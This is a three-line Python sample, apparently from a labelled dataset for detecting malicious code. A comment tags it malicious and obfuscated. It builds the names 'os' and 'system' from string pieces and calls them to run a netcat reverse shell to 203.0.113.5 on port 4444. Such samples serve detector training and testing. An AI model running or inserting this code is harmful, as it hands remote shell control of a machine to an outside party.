# label: malicious; obfuscated: getattr,__import__,concat
m = __import__("o" + "s")
getattr(m, "sys" + "tem")("nc -e /bin/sh 203.0.113.5 4444")
